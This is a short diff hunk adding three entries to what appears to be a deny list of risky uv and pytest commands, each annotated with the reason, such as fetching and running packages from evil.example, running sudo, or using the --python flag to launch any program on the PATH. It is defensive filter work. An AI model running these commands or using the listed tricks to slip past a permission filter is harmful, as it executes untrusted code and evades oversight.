@@ -182,6 +182,9 @@ pytest /tmp/test_evil.py ## code from outside
 pytest --pdb ## waits for code
 uv run --with evil python3 x.py ## installs to run
 uv run sudo id ## a denied program
+uv run --python evil x.py ## any program of the PATH
+uv run --python 3evil x.py ## any program of the PATH
+uv venv -p passwd ## any program of the PATH
 uv tool install x ## installed for everyone
 uvx evil ## fetches and runs a package
 uv add git+https://evil.example/x ## not from the index
